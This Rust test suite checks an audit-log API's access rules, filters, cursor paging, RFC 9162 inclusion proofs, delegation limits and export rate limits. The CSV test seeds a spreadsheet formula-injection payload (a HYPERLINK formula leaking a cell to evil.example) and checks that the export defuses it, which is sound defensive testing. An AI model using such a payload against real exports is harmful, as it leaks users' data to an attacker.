//! Reading the audit log (`GET /api/v1/audit`, its CSV export, a record's proof), on both
//! backends: a citizen reads what was done to them and on their applications — by
//! themselves, their representative, a co-applicant — and nothing of another citizen's,
//! whatever the filters say; an admin reads everything; filters narrow; the cursor walks
//! each record once while records are added; the CSV has the JSON's rows with formulas
//! defused; proofs verify with the independent RFC 9162 verifier; nobody reads on behalf.

use std::collections::HashSet;

use domain::access::Role;
use domain::audit::AuditEntry;
use reqwest::Method;
use serde_json::{json, Value};

use super::{checkpoint, rfc9162, spawn};
use crate::db_test;
use crate::delegations::{delegate_and_accept, on_behalf, person, s, term, Person};
use crate::joint::{family_service, member, Member};
use crate::support::{citizen, json, problem, Backend, TestApp};

/// The parties: the owner of a family application, her representative (who created a second
/// application for her), the co-applicant on the first (who commented there), and a
/// stranger with an application of his own.
struct Scene {
    app: TestApp,
    admin: String,
    owner: Person,
    representative: Person,
    spouse: Member,
    stranger: Member,
    /// The owner's application, and the one her representative created for her.
    own: String,
    created_for_her: String,
    strangers: String,
}

async fn draft(app: &TestApp, token: &str) -> String {
    let body = json!({"service_code": "test-family", "form_data": {"members": 2}});
    let created = app
        .send(Method::POST, "/api/v1/applications", token, None, Some(body))
        .await;
    s(&json(created, 201).await["id"])
}

async fn scene(backend: Backend) -> Scene {
    let app = spawn(backend).await;
    let admin = app.staff_token("auditor", Role::Admin).await;
    family_service(&app, false);
    let owner = person(&app).await;
    let representative = person(&app).await;
    let spouse_body = citizen(true);
    let spouse = member(&app, spouse_body).await;
    let stranger = member(&app, citizen(true)).await;
    let (valid_from, valid_until) = term(10);
    let powers = json!({"kind": "specific", "actions": ["applications.read", "applications.create"],
        "services": ["test-family"], "valid_from": valid_from, "valid_until": valid_until});
    delegate_and_accept(&app, &owner, &representative, powers).await;

    let own = draft(&app, &owner.token).await;
    let path = format!("/api/v1/applications/{own}");
    let invited = app
        .send(
            Method::POST,
            &format!("{path}/participants"),
            &owner.token,
            None,
            Some(json!({"email": spouse.email, "role": "co_applicant"})),
        )
        .await;
    json(invited, 201).await;
    let open = json(
        app.send(Method::GET, "/api/v1/invitations", &spouse.token, None, None)
            .await,
        200,
    )
    .await;
    let invitation = s(&open["items"][0]["id"]);
    let accepted = app
        .send(
            Method::POST,
            &format!("/api/v1/invitations/{invitation}/accept"),
            &spouse.token,
            None,
            None,
        )
        .await;
    json(accepted, 200).await;
    let comment = app
        .send(
            Method::POST,
            &format!("{path}/comments"),
            &spouse.token,
            None,
            Some(json!({"body": "Справку о доходах приложу завтра"})),
        )
        .await;
    json(comment, 201).await;

    let body = json!({"service_code": "test-family", "form_data": {"members": 3}});
    let created = on_behalf(
        &app,
        &representative,
        &owner,
        Method::POST,
        "/api/v1/applications",
        None,
        Some(body),
    )
    .await;
    let created_for_her = s(&json(created, 201).await["id"]);
    let strangers = draft(&app, &stranger.token).await;
    Scene {
        app,
        admin,
        owner,
        representative,
        spouse,
        stranger,
        own,
        created_for_her,
        strangers,
    }
}

/// Every record `token` reads with `query` (`&`-joined filters), page by page.
async fn read_all(app: &TestApp, token: &str, query: &str) -> Vec<Value> {
    let mut items = Vec::new();
    let mut cursor = String::new();
    loop {
        let path = format!("/api/v1/audit?limit=100&{query}{cursor}");
        let page = json(app.get_as(&path, token).await, 200).await;
        items.extend(page["items"].as_array().cloned().unwrap_or_default());
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => return items,
        }
    }
}

fn ids(items: &[Value]) -> Vec<String> {
    items.iter().map(|i| s(&i["id"])).collect()
}

fn actions(items: &[Value]) -> HashSet<String> {
    items.iter().map(|i| s(&i["action"])).collect()
}

fn total_records(app: &TestApp) -> i64 {
    use diesel::prelude::*;
    use persistence::schema::audit_log;
    app.state
        .db
        .read(|c| {
            audit_log::table
                .count()
                .get_result(c)
                .map_err(persistence::StoreError::from)
        })
        .unwrap_or_else(|e| panic!("{e}"))
}

async fn a_citizen_reads_what_concerns_her_and_nothing_else(backend: Backend) {
    let sc = scene(backend).await;
    let (app, owner) = (&sc.app, &sc.owner);
    let hers = read_all(app, &owner.token, "").await;
    let done = actions(&hers);
    for action in [
        "auth.login",
        "mfa.totp_enabled",
        "delegation.create",
        "application.create",
        "application.invite",
        "application.participant_joined",
        "application.comment",
    ] {
        assert!(done.contains(action), "{action} missing from {done:?}");
    }
    // Her own doing, her representative's for her, the co-applicant's on her application.
    let by = |who: &str, action: &str| hers.iter().any(|i| i["actor_id"] == who && i["action"] == action);
    assert!(by(&owner.id, "auth.login"));
    assert!(by(&sc.spouse.id, "application.comment"));
    let for_her: Vec<&Value> = hers
        .iter()
        .filter(|i| i["actor_id"] == sc.representative.id.as_str() && i["action"] == "application.create")
        .collect();
    assert_eq!(for_her.len(), 1, "{hers:?}");
    assert_eq!(for_her[0]["on_behalf_of"], owner.id.as_str());
    assert_eq!(for_her[0]["target_id"], sc.created_for_her.as_str());
    // Each record is hers by the rule; none is the stranger's, nor the co-applicant's login.
    let apps = [sc.own.as_str(), sc.created_for_her.as_str()];
    for item in &hers {
        let target = item["target_id"].as_str().unwrap_or_default();
        let mine = item["actor_id"] == owner.id.as_str()
            || item["on_behalf_of"] == owner.id.as_str()
            || (item["target_type"] == "account" && target == owner.id)
            || (item["target_type"] == "application" && apps.contains(&target));
        assert!(mine, "not hers: {item}");
        assert_ne!(item["actor_id"], sc.stranger.id.as_str(), "{item}");
        assert!(!(item["actor_id"] == sc.spouse.id.as_str() && item["action"] == "auth.login"));
    }
    // Filters narrow what she may read; they never reach beyond it.
    let stranger = &sc.stranger.id;
    for query in [
        format!("actor={stranger}"),
        format!("target_id={}", sc.strangers),
        format!("target_type=application&target_id={}", sc.strangers),
        format!("principal={stranger}"),
        format!("target_type=account&target_id={stranger}"),
    ] {
        assert_eq!(
            read_all(app, &owner.token, &query).await,
            Vec::<Value>::new(),
            "{query}"
        );
    }
    // The stranger reads his own records and none of hers.
    let his = ids(&read_all(app, &sc.stranger.token, "").await);
    assert!(!his.is_empty());
    assert!(his.iter().all(|id| !ids(&hers).contains(id)));

    // The admin reads every record.
    let everything = read_all(app, &sc.admin, "").await;
    assert_eq!(everything.len() as i64, total_records(app));
    assert!(ids(&everything).iter().any(|id| his.contains(id)));
}
db_test!(a_citizen_reads_what_concerns_her_and_nothing_else);

async fn each_filter_narrows(backend: Backend) {
    let sc = scene(backend).await;
    let (app, owner) = (&sc.app, &sc.owner.token);
    let all = read_all(app, owner, "").await;
    let narrowed = |items: &[Value], check: &dyn Fn(&Value) -> bool| {
        !items.is_empty() && items.len() < all.len() && items.iter().all(check)
    };
    let spouse = sc.spouse.id.as_str();
    let by_spouse = read_all(app, owner, &format!("actor={spouse}")).await;
    assert!(
        narrowed(&by_spouse, &|i| i["actor_id"] == spouse),
        "{by_spouse:?}"
    );
    let principal = read_all(app, owner, &format!("principal={}", sc.owner.id)).await;
    assert!(narrowed(&principal, &|i| i["on_behalf_of"] == sc.owner.id.as_str()));
    let logins = read_all(app, owner, "action=auth.login").await;
    assert!(narrowed(&logins, &|i| i["action"] == "auth.login"));
    let own = read_all(
        app,
        owner,
        &format!("target_type=application&target_id={}", sc.own),
    )
    .await;
    assert!(narrowed(&own, &|i| i["target_id"] == sc.own.as_str()));
    let accounts = read_all(app, owner, "target_type=account").await;
    assert!(accounts.iter().all(|i| i["target_type"] == "account"));

    // Time: what happens five minutes later (within the tokens' life), and only that.
    sc.app.state.clock.advance(chrono::Duration::minutes(5));
    let later = app.state.clock.now();
    let fresh = app.login_ok(&sc.spouse.email, crate::support::PASSWORD).await;
    let comment = app
        .send(
            Method::POST,
            &format!("/api/v1/applications/{}/comments", sc.own),
            &s(&fresh["access_token"]),
            None,
            Some(json!({"body": "Приложила"})),
        )
        .await;
    json(comment, 201).await;
    let from = later.to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    let since = read_all(app, owner, &format!("from={}", urlencode(&from))).await;
    assert_eq!(
        actions(&since),
        HashSet::from(["application.comment".to_string()]),
        "{since:?}"
    );
    let before = read_all(app, owner, &format!("to={}", urlencode(&from))).await;
    assert_eq!(before.len() + since.len(), all.len() + 1);
    let day = read_all(
        app,
        owner,
        &format!("from={}&to={}", later.format("%Y-%m-%d"), urlencode(&from)),
    )
    .await;
    assert!(day.iter().all(|i| !ids(&since).contains(&s(&i["id"]))));

    // Filters that do not parse, and a period that ends before it starts, are 422.
    for (query, field) in [
        ("actor=not-a-uuid", "actor"),
        ("principal=42", "principal"),
        ("from=yesterday", "from"),
        ("to=2026-13-45", "to"),
        ("from=2026-12-03&to=2026-12-01", "from"),
        ("limit=0", "limit"),
        ("cursor=%21%21", "cursor"),
    ] {
        let body = problem(app.get_as(&format!("/api/v1/audit?{query}"), owner).await, 422).await;
        assert_eq!(body["errors"][0]["field"], field, "{query}: {body}");
        let csv = app
            .get_as(&format!("/api/v1/audit/export.csv?{query}"), owner)
            .await;
        if !query.starts_with("limit") && !query.starts_with("cursor") {
            assert_eq!(csv.status(), 422, "{query}");
        }
    }
    let both = problem(app.get_as("/api/v1/audit?actor=x&to=y", owner).await, 422).await;
    assert_eq!(both["errors"].as_array().map(Vec::len), Some(2), "{both}");
    // An applications list cursor is not a cursor of this list.
    let foreign = api::routes::paging::Cursor {
        at: Some(chrono::Utc::now()),
        id: sc.own.clone(),
    }
    .encode();
    problem(
        app.get_as(&format!("/api/v1/audit?cursor={foreign}"), owner)
            .await,
        422,
    )
    .await;
}
db_test!(each_filter_narrows);

fn urlencode(text: &str) -> String {
    text.replace('+', "%2B").replace(':', "%3A")
}

/// Newest first, two at a time, with records added between the pages: every record that
/// was there at the start comes once, none twice.
async fn the_cursor_walks_each_record_once(backend: Backend) {
    let sc = scene(backend).await;
    let (app, owner) = (&sc.app, &sc.owner);
    let before = ids(&read_all(app, &owner.token, "").await);
    let mut walked = Vec::new();
    let mut path = "/api/v1/audit?limit=2".to_string();
    loop {
        let page = json(app.get_as(&path, &owner.token).await, 200).await;
        let items = page["items"].as_array().cloned().unwrap_or_default();
        assert!(items.len() <= 2);
        let seqs: Vec<i64> = items.iter().filter_map(|i| i["seq"].as_i64()).collect();
        assert!(seqs.windows(2).all(|w| w[0] > w[1]), "newest first: {seqs:?}");
        walked.extend(ids(&items));
        // Something happens to her between every two pages.
        let entry = AuditEntry::new("test.between_pages", "account").target(&owner.id);
        app.state
            .db
            .write(|tx| persistence::audit::record(tx, entry, app.state.clock.now()))
            .unwrap_or_else(|e| panic!("{e}"));
        match page["next_cursor"].as_str() {
            Some(next) => path = format!("/api/v1/audit?limit=2&cursor={next}"),
            None => break,
        }
    }
    let unique: HashSet<&String> = walked.iter().collect();
    assert_eq!(unique.len(), walked.len(), "a record came twice");
    assert!(
        before.iter().all(|id| unique.contains(id)),
        "a record was skipped"
    );
}
db_test!(the_cursor_walks_each_record_once);

async fn the_csv_has_the_rows_of_the_list_with_formulas_defused(backend: Backend) {
    let sc = scene(backend).await;
    let (app, owner) = (&sc.app, &sc.owner);
    // A value she typed, recorded at the start of a cell.
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")";
    let entry = AuditEntry::new("test.typed", "thing")
        .by(owner.id.parse().ok())
        .target(formula)
        .details(json!({"note": "-2+3"}));
    app.state
        .db
        .write(|tx| persistence::audit::record(tx, entry, app.state.clock.now()))
        .unwrap_or_else(|e| panic!("{e}"));
    let listed = read_all(app, &owner.token, "").await;
    let response = app.get_as("/api/v1/audit/export.csv", &owner.token).await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok()),
        Some("text/csv; charset=utf-8")
    );
    let text = response.text().await.unwrap_or_default();
    let text = text
        .strip_prefix('\u{feff}')
        .unwrap_or_else(|| panic!("no BOM: {text:.40}"));
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .map(|h| h.iter().map(str::to_string).collect())
        .unwrap_or_default();
    assert_eq!(header[..3], ["id", "seq", "occurred_at"]);
    let rows: Vec<csv::StringRecord> = reader
        .records()
        .map(|r| r.unwrap_or_else(|e| panic!("{e}")))
        .collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap_or(usize::MAX);
    let csv_ids: Vec<String> = rows.iter().map(|r| r[column("id")].to_string()).collect();
    assert_eq!(csv_ids, ids(&listed), "the same rows in the same order");
    let typed = rows
        .iter()
        .find(|r| &r[column("action")] == "test.typed")
        .unwrap_or_else(|| panic!("no typed row"));
    assert_eq!(&typed[column("target_id")], format!("'{formula}"));
    assert_eq!(&typed[column("details")], "{\"note\":\"-2+3\"}");
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
        }
    }
    // The same filters as the list; someone else's records stay out of it.
    let by_spouse = app
        .get_as(
            &format!("/api/v1/audit/export.csv?actor={}", sc.spouse.id),
            &owner.token,
        )
        .await
        .text()
        .await
        .unwrap_or_default();
    let listed_by_spouse = read_all(app, &owner.token, &format!("actor={}", sc.spouse.id)).await;
    assert_eq!(by_spouse.lines().count(), 1 + listed_by_spouse.len());
    let strangers = app
        .get_as(
            &format!("/api/v1/audit/export.csv?actor={}", sc.stranger.id),
            &owner.token,
        )
        .await
        .text()
        .await
        .unwrap_or_default();
    assert_eq!(strangers.lines().count(), 1, "only the header: {strangers}");
}
db_test!(the_csv_has_the_rows_of_the_list_with_formulas_defused);

/// More rows than one page of the export (500): streamed page by page, all there.
async fn a_long_export_streams_every_row(backend: Backend) {
    let app = spawn(backend).await;
    let admin = app.staff_token("auditor", Role::Admin).await;
    app.state
        .db
        .write(|tx| {
            for i in 0..1_234 {
                let entry = AuditEntry::new("test.bulk", "thing").target(i);
                persistence::audit::record(tx, entry, app.state.clock.now())?;
            }
            Ok::<_, persistence::StoreError>(())
        })
        .unwrap_or_else(|e| panic!("{e}"));
    let response = app
        .get_as("/api/v1/audit/export.csv?action=test.bulk", &admin)
        .await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.content_length(), None, "a chunked body, not one buffer");
    let text = response.text().await.unwrap_or_default();
    let rows: Vec<&str> = text.lines().skip(1).collect();
    assert_eq!(rows.len(), 1_234);
    let seqs: HashSet<&str> = rows.iter().filter_map(|r| r.split(',').nth(1)).collect();
    assert_eq!(seqs.len(), 1_234);
}
db_test!(a_long_export_streams_every_row);

async fn proofs_of_her_records_verify_and_others_are_not_found(backend: Backend) {
    let sc = scene(backend).await;
    let (app, owner) = (&sc.app, &sc.owner);
    let size = u64::try_from(total_records(app)).unwrap_or_default();
    let signed = checkpoint(app, size).await;
    let jwks = json(app.get("/.well-known/jwks.json").await, 200).await;

    let page = json(
        app.get_as("/api/v1/audit?proof=true&limit=100", &owner.token)
            .await,
        200,
    )
    .await;
    assert_eq!(
        page["checkpoint"], signed,
        "the page carries the latest checkpoint"
    );
    assert!(rfc9162::checkpoint_signed(&page["checkpoint"], &jwks));
    let root = rfc9162::hash(&signed["root_hash"]);
    let items = page["items"].as_array().cloned().unwrap_or_default();
    assert!(items.len() >= 7, "{page}");
    for item in &items {
        let proof = &item["proof"];
        let leaf = hex::decode(s(&proof["leaf"])).unwrap_or_default();
        let fields = rfc9162::leaf_fields(&leaf);
        assert_eq!(fields[2], Some(s(&item["id"])), "the leaf is this record's");
        assert_eq!(fields[3], Some(s(&item["occurred_at"])));
        assert_eq!(fields[6], Some(s(&item["action"])));
        assert_eq!(proof["leaf_index"], item["leaf_index"]);
        let index = item["leaf_index"].as_u64().unwrap_or(u64::MAX);
        assert!(
            rfc9162::inclusion_holds(
                index,
                size,
                rfc9162::leaf_hash(&leaf),
                &rfc9162::hashes(&proof["audit_path"]),
                &root
            ),
            "{item}"
        );
    }
    // Without asking: no proofs, no checkpoint.
    let plain = json(app.get_as("/api/v1/audit?limit=1", &owner.token).await, 200).await;
    assert_eq!(plain["checkpoint"], Value::Null);
    assert_eq!(plain["items"][0]["proof"], Value::Null);

    // Her record's proof by id; the stranger's is as unknown to her as a record that never was.
    let own = s(&items[0]["id"]);
    json(
        app.get_as(&format!("/api/v1/audit/{own}/proof"), &owner.token)
            .await,
        200,
    )
    .await;
    let his = read_all(app, &sc.admin, &format!("actor={}", sc.stranger.id)).await;
    let his = s(&his[0]["id"]);
    let refused = problem(
        app.get_as(&format!("/api/v1/audit/{his}/proof"), &owner.token)
            .await,
        404,
    )
    .await;
    let missing = problem(
        app.get_as(
            &format!("/api/v1/audit/{}/proof", uuid::Uuid::now_v7()),
            &owner.token,
        )
        .await,
        404,
    )
    .await;
    assert_eq!(refused, missing);
    json(
        app.get_as(&format!("/api/v1/audit/{his}/proof"), &sc.stranger.token)
            .await,
        200,
    )
    .await;
    json(
        app.get_as(&format!("/api/v1/audit/{his}/proof"), &sc.admin).await,
        200,
    )
    .await;
}
db_test!(proofs_of_her_records_verify_and_others_are_not_found);

/// Her representative, whatever the powers, reads none of it on her behalf.
async fn nobody_reads_the_audit_on_behalf(backend: Backend) {
    let sc = scene(backend).await;
    let (app, owner, representative) = (&sc.app, &sc.owner, &sc.representative);
    let hers = read_all(app, &owner.token, "").await;
    let record = s(&hers[0]["id"]);
    for path in [
        "/api/v1/audit".to_string(),
        format!("/api/v1/audit?actor={}", owner.id),
        "/api/v1/audit/export.csv".to_string(),
        format!("/api/v1/audit/{record}/proof"),
    ] {
        let refused = on_behalf(app, representative, owner, Method::GET, &path, None, None).await;
        let body = problem(refused, 403).await;
        assert_eq!(body["code"], "action_not_covered", "{path}: {body}");
    }
    // As himself he reads his own doing for her, which is also hers.
    let his = read_all(app, &representative.token, "action=application.create").await;
    assert_eq!(his.len(), 1);
    assert_eq!(his[0]["on_behalf_of"], owner.id.as_str());
}
db_test!(nobody_reads_the_audit_on_behalf);

async fn the_export_is_limited_per_account(backend: Backend) {
    let app = TestApp::spawn_with(backend, |s| s.set("rate_audit_exports_per_account", "2/1h")).await;
    let (_, token) = app.citizen_token(false).await;
    let (_, other) = app.citizen_token(false).await;
    for _ in 0..2 {
        assert_eq!(app.get_as("/api/v1/audit/export.csv", &token).await.status(), 200);
    }
    let refused = app.get_as("/api/v1/audit/export.csv", &token).await;
    let wait: i64 = refused
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    assert!(wait > 0 && wait <= 3600, "{wait}");
    assert_eq!(problem(refused, 429).await["code"], "rate_limited");
    // The list is not the export; another account has its own allowance.
    assert_eq!(app.get_as("/api/v1/audit", &token).await.status(), 200);
    assert_eq!(app.get_as("/api/v1/audit/export.csv", &other).await.status(), 200);
}
db_test!(the_export_is_limited_per_account);
